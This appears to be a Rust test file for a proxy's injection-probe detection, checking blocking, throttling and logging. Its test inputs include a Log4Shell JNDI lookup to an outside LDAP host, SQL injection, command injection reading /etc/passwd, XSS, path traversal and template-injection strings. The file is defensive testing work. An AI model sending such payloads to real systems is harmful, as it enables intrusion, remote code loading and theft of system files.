//! Injection probes through the proxy (`[probes]`): where they hide, what the client sees,
//! what the decision log says, and that honest requests and large bodies pass.

use crate::common::*;

const POLICY: &str = r#"
[server]
trusted_proxies = ["127.0.0.1"]

[probes]
weight = 10
actions = { log4shell = "block", command = "block" }
max_body = "4KiB"
"#;

#[tokio::test(flavor = "multi_thread")]
async fn probes_are_found_where_they_hide_and_honest_values_pass() {
    let up = upstream().await;
    let g = Gateway::start(Some(&config_for(&up, POLICY)));
    let ip = |n: u8| format!("198.51.100.{n}");

    // A SQL injection in the query, encoded twice: a signal, forwarded (weight 10).
    let r = send(
        "GET",
        &g.url("/echo?id=1%2527%2520OR%2520%25271%2527%253D%25271"),
        &[("x-forwarded-for", &ip(1))],
        "",
    )
    .await;
    assert_eq!(r.status, 200);
    let d = g.wait_decision(|d| d["client_ip"] == ip(1).as_str());
    let reason = &d["reasons"][0];
    assert_eq!(reason["signal"], "probe/sqli", "{d}");
    assert!(
        reason["detail"].as_str().unwrap().starts_with("query:id "),
        "{d}"
    );
    assert!(!reason["detail"].as_str().unwrap().contains("OR"), "{d}");

    // A Log4j lookup in an arbitrary header: refused, and the body does not say why.
    let r = send(
        "GET",
        &g.url("/echo"),
        &[
            ("x-forwarded-for", &ip(2)),
            ("x-api-version", "${${::-j}ndi:ldap://198.51.100.99/a}"),
        ],
        "",
    )
    .await;
    assert_eq!(r.status, 403);
    assert!(!String::from_utf8_lossy(&r.body).contains("probe"));
    let d = g.wait_decision(|d| d["client_ip"] == ip(2).as_str());
    assert_eq!(d["rule"], "probe/log4shell", "{d}");

    // Command injection in a JSON body's nested field: refused before the upstream.
    let before = up.state.requests.load(std::sync::atomic::Ordering::SeqCst);
    let r = send(
        "POST",
        &g.url("/echo"),
        &[
            ("x-forwarded-for", &ip(3)),
            ("content-type", "application/json"),
        ],
        r#"{"report":{"host":"127.0.0.1; cat /etc/passwd"}}"#,
    )
    .await;
    assert_eq!(r.status, 403);
    assert_eq!(
        up.state.requests.load(std::sync::atomic::Ordering::SeqCst),
        before
    );
    let d = g.wait_decision(|d| d["client_ip"] == ip(3).as_str());
    assert_eq!(d["rule"], "probe/command", "{d}");
    assert!(
        d["reasons"].to_string().contains("body:/report/host"),
        "{d}"
    );

    // A form body: script injection is a signal, and the body still reaches the upstream.
    let r = send(
        "POST",
        &g.url("/echo"),
        &[
            ("x-forwarded-for", &ip(4)),
            ("content-type", "application/x-www-form-urlencoded"),
        ],
        "comment=%3Csvg%2Fonload%3Dalert(1)%3E&page=2",
    )
    .await;
    assert_eq!(r.status, 200);
    assert_eq!(
        r.json()["body_len"],
        44,
        "the whole form reaches the upstream"
    );
    let d = g.wait_decision(|d| d["client_ip"] == ip(4).as_str());
    assert!(d["reasons"].to_string().contains("form:comment"), "{d}");

    // A body past max_body is forwarded unscanned, whole, not refused for its size.
    let big = format!(
        r#"{{"note":"{}","cmd":"; cat /etc/passwd"}}"#,
        "x".repeat(8 * 1024)
    );
    let r = send(
        "POST",
        &g.url("/echo"),
        &[
            ("x-forwarded-for", &ip(5)),
            ("content-type", "application/json"),
        ],
        &big,
    )
    .await;
    assert_eq!(r.status, 200);
    assert_eq!(r.json()["body_len"], big.len());

    // Honest look-alikes: an apostrophe, an ampersand, prose with SQL words, a URL.
    for (n, q) in [
        (6, "q=O%27Reilly%20%26%20Sons"),
        (7, "q=select+a+plan+or+drop+me+a+line"),
        (8, "next=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3D1"),
        (
            9,
            "title=Don%27t%20stop%20--%20the%20%22best%22%20of%202024",
        ),
    ] {
        let r = send(
            "GET",
            &g.url(&format!("/echo?{q}")),
            &[
                ("x-forwarded-for", &ip(n)),
                ("cookie", "session=abc123; theme=dark"),
                (
                    "referer",
                    "https://www.example.com/search?q=rock+%27n%27+roll",
                ),
            ],
            "",
        )
        .await;
        assert_eq!(r.status, 200, "{q}");
        let d = g.wait_decision(|d| d["client_ip"] == ip(n).as_str());
        assert!(!d["reasons"].to_string().contains("probe/"), "{q}: {d}");
    }
}

/// A prober walks into throttling: each probe is a signal at `delay_at`, and progressive
/// throttling steps up per probe until the client is blocked.
#[tokio::test(flavor = "multi_thread")]
async fn a_prober_walks_into_throttling() {
    let up = upstream().await;
    let g = Gateway::start(Some(&config_for(
        &up,
        r#"
[server]
trusted_proxies = ["127.0.0.1"]

[probes]
weight = 40

[behaviour]                       # progressive throttling keeps its steps per client here

[scoring]
throttle = ["10ms", "20ms"]
throttle_block_for = "1m"
"#,
    )));
    let mut statuses = Vec::new();
    for payload in [
        "1%27%20OR%201%3D1--",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "%7B%7B7*7%7D%7D",
        "1%20UNION%20SELECT%20NULL--",
    ] {
        let r = send(
            "GET",
            &g.url(&format!("/echo?q={payload}")),
            &[
                ("x-forwarded-for", "203.0.113.80"),
                (
                    "user-agent",
                    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
                ),
            ],
            "",
        )
        .await;
        statuses.push(r.status);
    }
    assert_eq!(statuses[0], 200, "{statuses:?}");
    assert!(
        statuses.iter().skip(2).any(|s| *s == 403 || *s == 429),
        "the prober is stopped: {statuses:?} {:?}",
        g.decision_summaries(5)
    );
    // Another client is untouched.
    let r = send(
        "GET",
        &g.url("/echo?q=hello"),
        &[("x-forwarded-for", "203.0.113.81")],
        "",
    )
    .await;
    assert_eq!(r.status, 200);
}
